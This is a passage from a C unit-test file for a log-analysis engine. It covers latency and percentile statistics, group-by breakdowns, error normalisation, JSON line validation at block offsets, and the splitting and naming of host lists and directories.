	check_period(e, v, s, mid, INT64_MAX);
	check_period(e, v, s, ENG_TIME_NONE, mid);
	check_period(e, v, s, mid - ENG_US_PER_HOUR, mid + 90 * ENG_US_PER_MIN);
	check_latency(e, v, s);
	check_slowest(e, s);
	eng_stats_free(s);
	eng_view_free(v);
	eng_close(e);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* Two requests a minute, durations told apart by minute. */
static void
gen_requests(const char *dir, int from_min, int to_min)
{
	char path[512];
	FILE *fp;

	snprintf(path, sizeof path, "%s/user_interactions.log", dir);
	CU_ASSERT_PTR_NOT_NULL_FATAL(fp = fopen(path, "a"));
	for (int m = from_min; m < to_min; m++)
		for (int i = 0; i < 2; i++)
			fprintf(fp, "{\"category\":\"user\",\"timestamp\":"
			    "\"2026-11-26T10:%02d:%02d.000Z\",\"level\":"
			    "\"INFO\",\"success\":true,\"duration_ms\":%d}\n",
			    m, 10 + i, 100 * m + i);
	fclose(fp);
}

static void
latency_of(struct eng_stats *s, double *p50, double *p95, size_t *n)
{
	struct eng_hist h;

	eng_hist_build(s, 100, ENG_US_PER_MIN, true, &h);
	CU_ASSERT_FATAL(h.n <= 100);
	eng_hist_latency(s, &h, p50, p95);
	*n = h.n;
	eng_hist_free(&h);
}

/* The latency by minute of a live view, after requests came before the
 * others (every minute's requests move along), is a new count's. */
static void
test_stats_latency_live(void)
{
	const char *dir = util_tmpdir("latency");
	struct eng *e;
	struct eng_view *v;
	struct eng_stats *s = eng_stats_new(), *fresh = eng_stats_new();
	double p50[100], p95[100], w50[100], w95[100];
	size_t n, wn;

	gen_requests(dir, 10, 40);
	e = load(dir);
	v = view_all(e);
	eng_stats_update(s, v);
	latency_of(s, p50, p95, &n);
	CU_ASSERT_EQUAL(n, 30);
	CU_ASSERT_EQUAL(p50[3], 1300);
	gen_requests(dir, 9, 10);
	CU_ASSERT(eng_refresh(e) > 0);
	CU_ASSERT(eng_view_update(v) > 0);
	eng_stats_update(s, v);
	latency_of(s, p50, p95, &n);
	eng_stats_update(fresh, v);
	latency_of(fresh, w50, w95, &wn);
	CU_ASSERT_EQUAL_FATAL(n, wn);
	CU_ASSERT_EQUAL(n, 31);
	for (size_t b = 0; b < n; b++)
		CU_ASSERT(p50[b] == w50[b] && p95[b] == w95[b]);
	CU_ASSERT_EQUAL(p50[4], 1300);
	eng_stats_free(s);
	eng_stats_free(fresh);
	eng_view_free(v);
	eng_close(e);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* A breakdown of a live view, reported, then updated with durations
 * below every earlier one, reports what a new breakdown of the view does. */
static void
test_groupby_live(void)
{
	static const char *const fields[] = { "category" };
	const char *dir = util_tmpdir("groupby-live");
	struct eng_groupby *g, *fresh;
	struct eng_view *v;
	json_object *a, *b;
	struct eng *e;

	gen_requests(dir, 10, 40);
	e = load(dir);
	v = view_all(e);
	g = eng_groupby_new(fields, 1, 0);
	eng_groupby_update(g, v);
	json_object_put(eng_groupby_json(g, ENG_SORT_COUNT));
	gen_requests(dir, 0, 10);
	CU_ASSERT(eng_refresh(e) > 0);
	CU_ASSERT(eng_view_update(v) > 0);
	eng_groupby_update(g, v);
	fresh = eng_groupby_new(fields, 1, 0);
	eng_groupby_update(fresh, v);
	a = eng_groupby_json(g, ENG_SORT_COUNT);
	b = eng_groupby_json(fresh, ENG_SORT_COUNT);
	CU_ASSERT_STRING_EQUAL(json_object_to_json_string(a),
	    json_object_to_json_string(b));
	/* 80 durations: 0, 1, 100, 101, ..., 3901; p50 is the 40th */
	CU_ASSERT_PTR_NOT_NULL(strstr(json_object_to_json_string(a),
	    "\"p50_ms\": 1901.0,"));
	json_object_put(a);
	json_object_put(b);
	eng_groupby_free(g);
	eng_groupby_free(fresh);
	eng_view_free(v);
	eng_close(e);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* The top errors: failures only, normalised (digits, blanks), most
 * first, with the latest time each was seen. */
static void
test_stats_errors(void)
{
	static const char *const lines[] = {
		"{\"category\":\"tool\",\"timestamp\":\"2026-11-26T10:00:00Z\","
		"\"level\":\"ERROR\",\"success\":false,\"error\":\"timeout after 30s\"}",
		"{\"category\":\"tool\",\"timestamp\":\"2026-11-26T10:05:00Z\","
		"\"level\":\"ERROR\",\"success\":false,\"error\":\"timeout  after 45s\"}",
		"{\"category\":\"tool\",\"timestamp\":\"2026-11-26T10:01:00Z\","
		"\"level\":\"ERROR\",\"success\":false,\"error\":\"timeout after 7s\"}",
		"{\"category\":\"tool\",\"timestamp\":\"2026-11-26T10:02:00Z\","
		"\"level\":\"INFO\",\"success\":true,\"error\":\"retried\"}",
		"{\"category\":\"tool\",\"timestamp\":\"2026-11-26T10:03:00Z\","
		"\"level\":\"ERROR\",\"success\":false,\"error\":\"denied\"}",
	};
	const char *dir = util_tmpdir("errors");
	char path[4096];
	struct eng_error_row er[4];
	struct eng_stats *s = eng_stats_new();
	struct eng_view *v;
	struct eng *e;
	FILE *f;

	snprintf(path, sizeof path, "%s/%s", dir,
	    llmlog_category_file(LLMLOG_TOOL));
	f = fopen(path, "w");
	CU_ASSERT_PTR_NOT_NULL_FATAL(f);
	for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++)
		fprintf(f, "%s\n", lines[i]);
	CU_ASSERT_EQUAL(fclose(f), 0);
	e = load(dir);
	v = view_all(e);
	eng_stats_update(s, v);
	CU_ASSERT_EQUAL_FATAL(eng_stats_errors(s, er, 4), 2);
	CU_ASSERT(er[0].len == 16 && memcmp(er[0].text, "timeout after #s",
	    16) == 0);
	CU_ASSERT_EQUAL(er[0].count, 3);
	CU_ASSERT_EQUAL(er[0].last_us, INT64_C(1795687500) * ENG_US_PER_SEC);
	CU_ASSERT(er[1].len == 6 && memcmp(er[1].text, "denied", 6) == 0);
	CU_ASSERT_EQUAL(er[1].count, 1);
	CU_ASSERT_EQUAL(eng_stats_errors(s, er, 1), 1);
	eng_stats_free(s);
	eng_view_free(v);
	eng_close(e);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* The report of a fresh count of v. */
static char *
fresh_text(struct eng_view *v)
{
	struct eng_stats *s = eng_stats_new();
	char *t;

	eng_stats_update(s, v);
	t = stats_text(s);
	eng_stats_free(s);
	return t;
}

/* A live view's few new entries cost what they are: when all passed the
 * filter no position of the view is looked at; when some did not, those
 * at its end; only an entry that sorts before the end makes the stats
 * look at the whole view. */
static void
test_stats_live_cost(void)
{
	static const char *const levels[] = { "INFO", "DEBUG", "INFO", "INFO" };
	const char *dir = util_tmpdir("live");
	struct eng *e;
	struct eng_view *v;
	struct eng_stats *s = eng_stats_new();
	struct eng_filter flt;
	char path[4096], *got, *want;
	uint64_t before;
	FILE *f;

	gen_lines(dir, 0, GEN_FIRST, 1);
	e = load(dir);
	eng_filter_init(&flt);
	flt.min_level = LLMLOG_INFO;
	v = eng_view_new(e, &flt);
	eng_stats_update(s, v);
	snprintf(path, sizeof path, "%s/tool_executions.log", dir);
	for (int round = 0; round < 3; round++) {
		/* three at the end, one of them DEBUG; the same; and
		 * three that sort before every other */
		f = fopen(path, "a");
		CU_ASSERT_PTR_NOT_NULL_FATAL(f);
		for (int i = 0; i < 3; i++)
			fprintf(f, "{\"category\":\"tool\",\"timestamp\":"
			    "\"2026-%s.00%dZ\",\"level\":\"%s\","
			    "\"event\":\"e\",\"tool_name\":\"live\"}\n",
			    round == 2 ? "11-01T00:00:00" : "12-01T00:00:00", i,
			    levels[round == 1 ? 0 : i]);
		fclose(f);
		CU_ASSERT_EQUAL(eng_refresh(e), 3);
		before = stats_positions_read(s);
		eng_view_update(v);
		eng_stats_update(s, v);
		if (round == 0) {
			CU_ASSERT_EQUAL(stats_positions_read(s) - before, 2);
		} else if (round == 1) {
			CU_ASSERT_EQUAL(stats_positions_read(s) - before, 0);
		} else {
			CU_ASSERT(stats_positions_read(s) - before >=
			    eng_view_count(v));
		}
	}
	got = stats_text(s);
	want = fresh_text(v);
	expect_same_text(got, want, "live entries");
	free(got);
	free(want);
	eng_stats_free(s);
	eng_view_free(v);
	eng_close(e);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* Escapes, quotes and brackets at every offset from the 64-byte blocks
 * the line check reads: an entry is malformed exactly when json-c cannot
 * parse its line. */
static void
test_line_check_offsets(void)
{
	static const char *const payloads[] = {
		"a\\\"b", "\\\\", "\\\\\\\"", "x\\\\", "{[", "\\\"}",
		"\\\"", "abc\\", "\\u00e9\\n", "]}", "\\\\\\",
		"\\\\\\\\\\\"\\\"",
	};
	const char *dir = util_tmpdir("lines");
	char path[4096], line[512];
	size_t np = sizeof payloads / sizeof payloads[0], n = 0, bad = 0;
	struct eng *e;
	struct eng_view *v;
	FILE *f;

	snprintf(path, sizeof path, "%s/user_interactions.log", dir);
	f = fopen(path, "w");
	CU_ASSERT_PTR_NOT_NULL_FATAL(f);
	for (int pad = 0; pad < 70; pad++)
		for (size_t i = 0; i < np; i++) {
			fprintf(f, "{\"category\":\"user\",\"timestamp\":"
			    "\"2026-11-26T10:00:00Z\",\"level\":\"INFO\","
			    "\"pad\":\"%.*s\",\"v\":\"%s\",\"n\":[1,{}]}\n",
			    pad, "..................................................."
			    "...................", payloads[i]);
			n++;
		}
	fclose(f);
	e = load(dir);
	v = view_all(e);
	CU_ASSERT_EQUAL(eng_view_count(v), n);
	for (size_t i = 0; i < eng_view_count(v); i++) {
		const struct eng_entry *en = eng_view_get(v, i);
		size_t len;
		const char *s = eng_line(e, en, &len);
		json_object *o;

		CU_ASSERT_FATAL(s != NULL && len < sizeof line);
		memcpy(line, s, len);
		line[len] = '\0';
		o = json_tokener_parse(line);
		if ((o == NULL) != ((en->flags & ENTRY_MALFORMED) != 0)) {
			fprintf(stderr, "\nline check disagrees: %s\n", line);
			bad++;
		}
		json_object_put(o);
	}
	CU_ASSERT_EQUAL(bad, 0);
	CU_ASSERT(eng_malformed(e) > 0 && eng_malformed(e) < n);
	eng_view_free(v);
	eng_close(e);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* names: n names, each followed by '\0'; joined by '|' for comparing */
static char *
joined(const struct strbuf *names, size_t n)
{
	char *s = eng_xcalloc(names->len + 1, 1);

	for (size_t i = 0, k = 0; i < names->len; i++)
		s[i] = names->s[i] != '\0' ? names->s[i] :
		    ++k < n ? '|' : '\0';
	return s;
}

static void
test_host_where(void)
{
	static const struct {
		const char *list, *expr;
	} cases[] = {
		{ "alpha", "host in (\"alpha\")" },
		{ "alpha,beta", "host in (\"alpha\", \"beta\")" },
		{ ",alpha,,beta,", "host in (\"alpha\", \"beta\")" },
		{ "a\"b\\c", "host in (\"a\\\"b\\\\c\")" },
		{ "tab\there", "host in (\"tab\\u0009here\")" },
		{ "a\\,b,c", "host in (\"a,b\", \"c\")" },
		{ "", NULL },
		{ ",,", NULL },
	};

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		struct strbuf names;
		size_t n, col;
		char *expr, err[256];
		struct eng_where *w;

		strbuf_init(&names);
		n = eng_host_split(NULL, cases[i].list, &names);
		expr = eng_host_where(names.s, n);
		strbuf_free(&names);
		if (cases[i].expr == NULL) {
			CU_ASSERT_PTR_NULL(expr);
			continue;
		}
		CU_ASSERT_PTR_NOT_NULL_FATAL(expr);
		CU_ASSERT_STRING_EQUAL(expr, cases[i].expr);
		/* the where grammar reads it */
		w = eng_where_new(expr, 0, true, err, sizeof err, &col);
		CU_ASSERT_PTR_NOT_NULL(w);
		eng_where_free(w);
		free(expr);
	}
}

/* A host name with a comma: the whole list naming it, or \, */
static void
test_host_split(void)
{
	static const struct {
		bool with_hosts;
		const char *list, *names;	/* names joined by | */
	} cases[] = {
		{ true, "a,b", "a,b" },		/* the whole name wins */
		{ false, "a,b", "a|b" },
		{ true, "a\\,b", "a,b" },
		{ true, "b,a\\,b", "b|a,b" },
		{ true, "a,b,b", "a|b|b" },
		{ true, "a\\\\,b", "a\\|b" },
		{ true, "x\\y", "x\\y" },	/* any other backslash: itself */
		{ true, "x\\", "x\\" },
		{ true, ",a,,", "a" },
		{ true, ",,", "" },
	};
	const char *dir = util_tmpdir("hostnames");
	char paths[3][512], err[256];
	const char *dirs[3] = { paths[0], paths[1], paths[2] };
	const char *hostnames[] = { "a", "b", "a,b" };
	struct strbuf names, list;
	struct eng *e;

	for (size_t i = 0; i < 3; i++) {
		snprintf(paths[i], sizeof paths[i], "%s/%s", dir,
		    hostnames[i]);
		CU_ASSERT_EQUAL_FATAL(mkdir(paths[i], 0700), 0);
	}
	e = eng_open(dirs, 3, err, sizeof err);
	CU_ASSERT_PTR_NOT_NULL_FATAL(e);
	CU_ASSERT_STRING_EQUAL(eng_host_name(e, 2), "a,b");
	strbuf_init(&names);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		size_t n;
		char *got;

		strbuf_reset(&names);
		n = eng_host_split(cases[i].with_hosts ? e : NULL,
		    cases[i].list, &names);
		got = joined(&names, n);
		CU_ASSERT_STRING_EQUAL(got, cases[i].names);
		if (strcmp(got, cases[i].names) != 0)
			fprintf(stderr, "'%s': '%s', not '%s'\n",
			    cases[i].list, got, cases[i].names);
		free(got);
	}
	/* a list written by eng_host_list_add reads back as its names */
	strbuf_init(&list);
	eng_host_list_add(&list, "a,b");
	eng_host_list_add(&list, "x\\y");
	eng_host_list_add(&list, "b");
	CU_ASSERT_STRING_EQUAL(list.s, "a\\,b,x\\\\y,b");
	strbuf_reset(&names);
	{
		size_t n = eng_host_split(e, list.s, &names);
		char *got = joined(&names, n);

		CU_ASSERT_EQUAL(n, 3);
		CU_ASSERT_STRING_EQUAL(got, "a,b|x\\y|b");
		free(got);
	}
	strbuf_free(&list);
	strbuf_free(&names);
	eng_close(e);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* mkdir -p */
static int
make_dirs(const char *path)
{
	char p[512];

	snprintf(p, sizeof p, "%s", path);
	for (char *s = p + 1; *s != '\0'; s++) {
		if (*s != '/')
			continue;
		*s = '\0';
		if (mkdir(p, 0700) != 0 && errno != EEXIST)
			return -1;
		*s = '/';
	}
	return mkdir(p, 0700) != 0 && errno != EEXIST ? -1 : 0;
}

/* Each directory by the shortest end of its path that no other has,
 * after the ends all share, and not only the .llm_os/logs of the default
 * layout; a path of "." or ".." parts by where it leads.  Paths are
 * relative to dir. */
static void
test_host_names(void)
{
	static const struct {
		const char *cwd;	/* under dir, or NULL: dir */
		const char *dirs[3];
		const char *names[3];
	} cases[] = {
		{ NULL, { "alpha/.llm_os/logs", "beta/.llm_os/logs" },
		    { "alpha", "beta" } },
		{ NULL, { "a/x/logs", "c/logs" }, { "x", "c" } },
		{ NULL, { "a/x/logs", "b/x/logs" }, { "a", "b" } },
		{ NULL, { "h1", "h1/sub" }, { "h1", "sub" } },
		{ NULL, { "c/logs" }, { "logs" } },
		{ "c/logs", { ".", "../../d/logs" }, { "c", "d" } },
		{ "c/logs", { "./", "../../d/logs/" }, { "c", "d" } },
		{ "h1/sub", { "..", "../../c/logs" }, { "h1", "logs" } },
		{ NULL, { "alpha", "alpha/.llm_os/logs", "beta/.llm_os/logs" },
		    { "alpha", "alpha/.llm_os/logs", "beta/.llm_os/logs" } },
		{ NULL, { "h1", "alpha/.llm_os/logs", "beta/.llm_os/logs" },
		    { "h1", "alpha/.llm_os/logs", "beta/.llm_os/logs" } },
		{ "alpha/.llm_os/logs", { ".", "../../../h1" },
		    { "alpha/.llm_os/logs", "h1" } },
	};
	static const char *const made[] = { "alpha/.llm_os/logs",
		"beta/.llm_os/logs", "a/x/logs", "b/x/logs", "c/logs",
		"d/logs", "h1/sub" };
	const char *dir = util_tmpdir("hostlabels");
	char path[512], err[256];
	int here = open(".", O_RDONLY | O_DIRECTORY);

	CU_ASSERT_FATAL(here >= 0);
	for (size_t i = 0; i < sizeof made / sizeof made[0]; i++) {
		snprintf(path, sizeof path, "%s/%s", dir, made[i]);
		CU_ASSERT_EQUAL_FATAL(make_dirs(path), 0);
	}
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		size_t n = 0;
		struct eng *e;

		snprintf(path, sizeof path, "%s/%s", dir,
		    cases[i].cwd != NULL ? cases[i].cwd : "");
		CU_ASSERT_EQUAL_FATAL(chdir(path), 0);
		while (n < 3 && cases[i].dirs[n] != NULL)
			n++;
		e = eng_open(cases[i].dirs, n, err, sizeof err);
		CU_ASSERT_PTR_NOT_NULL_FATAL(e);
		for (size_t k = 0; k < n; k++) {
			const char *got = eng_host_name(e, (unsigned)k);

			CU_ASSERT_STRING_EQUAL(got, cases[i].names[k]);
			if (strcmp(got, cases[i].names[k]) != 0)
				fprintf(stderr, "case %zu: %s is '%s', not "
				    "'%s'\n", i, cases[i].dirs[k], got,
				    cases[i].names[k]);
		}
		eng_close(e);
	}
	CU_ASSERT_EQUAL(fchdir(here), 0);
	close(here);
	CU_ASSERT_EQUAL(util_rmtree(dir), 0);
}

/* A tally counted in two halves and merged (hist_merge, how the report
 * taken from the caches counts its histogram on two cores) is what
 * counting every entry in order gives, whenever the merge says it can
 * be; and it can whenever the entries span what the tally keeps. */
static bool
slots_equal(const struct hist_slots *a, const struct hist_slots *b)
{
	if (a->n != b->n || (a->n > 0 && a->first != b->first))
		return false;
	return a->n == 0 || memcmp(a->c, b->c, a->n * sizeof *a->c) == 0;
}

static void
test_hist_merge(void)
{
	static const int64_t spans[] = { 10 * ENG_US_PER_SEC,
	    6 * ENG_US_PER_HOUR - ENG_US_PER_SEC, 6 * ENG_US_PER_HOUR,
	    6 * ENG_US_PER_HOUR + ENG_US_PER_SEC, 30 * ENG_US_PER_DAY,
	    366 * ENG_US_PER_DAY - ENG_US_PER_MIN, 400 * ENG_US_PER_DAY };
	size_t merged = 0;

	for (size_t round = 0; round < 200; round++) {
		int64_t span = spans[round % (sizeof spans / sizeof *spans)];
		int64_t base = 1795691792000000 + (int64_t)util_rand_below(1000) *
		    ENG_US_PER_SEC;
		size_t n = 2 + util_rand_below(300), half = util_rand_below(
		    (unsigned)n + 1);
		struct hist_tally all = { 0 }, a = { 0 }, b = { 0 };
		struct eng_entry *v = calloc(n, sizeof *v);

		CU_ASSERT_PTR_NOT_NULL_FATAL(v);
		for (size_t i = 0; i < n; i++) {
			/* the ends of the span met, the rest anywhere in it */
			int64_t at = i == 0 ? 0 : i == 1 ? span :
			    (int64_t)((double)span * util_rand_below(10001) /
			    10000.0);

			v[i].time_us = util_rand_below(9) == 0 ? ENG_TIME_NONE :
			    base + at;
			v[i].level = (uint8_t)(1 + util_rand_below(5));
		}
		for (size_t i = 0; i < n; i++)
			hist_add(&all, &v[i]);
		for (size_t i = 0; i < half; i++)
			hist_add(&a, &v[i]);
		for (size_t i = half; i < n; i++)
			hist_add(&b, &v[i]);
		if (hist_merge(&a, &b)) {
			merged++;
			CU_ASSERT(slots_equal(&a.min, &all.min));
			CU_ASSERT_EQUAL(a.sec_over, all.sec_over);
			CU_ASSERT(slots_equal(&a.sec, &all.sec));
		} else
			CU_ASSERT(span > 366 * ENG_US_PER_DAY - ENG_US_PER_MIN);
		hist_free(&all);
		hist_free(&a);
		hist_free(&b);
		free(v);
	}
	CU_ASSERT(merged > 150);
}

int
main(void)
{
	static const struct util_test tests[] = {
		{ "parse cases", test_parse_cases },
		{ "histogram counted in halves", test_hist_merge },
		{ "log time parsing", test_time_parse_log },
		{ "local time across an offset change", test_time_offset_change },
		{ "time and number formats", test_time_format },
		{ "local times", test_time_local },
		{ "filters", test_filters },
		{ "filters match line by line",
		    test_filter_matches_line_by_line },
		{ "category counts", test_category_counts },
		{ "order, malformed neighbours",
		    test_order_and_malformed_neighbours },
		{ "entry fields", test_entry_fields },
		{ "search", test_search },
		{ "regex", test_regex },
		{ "open errors", test_open_errors },
		{ "open a file", test_open_file },
		{ "files and sources", test_files_and_sources },
		{ "prices", test_prices },
		{ "stats", test_stats },
		{ "stats on a new view", test_stats_new_view },
		{ "stats: top errors", test_stats_errors },
		{ "histogram", test_hist },
		{ "stats in slices, fixture", test_stats_slices_fixture },
		{ "stats in slices, with follow", test_stats_slices_generated },
		{ "stats counted on load", test_stats_on_load },
		{ "stats: the dashboard's tables", test_stats_tables },
		{ "request latency of a live view", test_stats_latency_live },
		{ "a live breakdown's percentiles", test_groupby_live },
		{ "the dashboard's figures", test_stats_dashboard },
		{ "a live view's new entries cost what they are",
		    test_stats_live_cost },
		{ "line check at block offsets", test_line_check_offsets },
		{ "host lists as where expressions", test_host_where },
		{ "host names with a comma", test_host_split },
		{ "host names of directories", test_host_names },
		{ NULL, NULL },
	};

	setenv("TZ", "UTC", 1);
	return util_run("engine", tests);
}
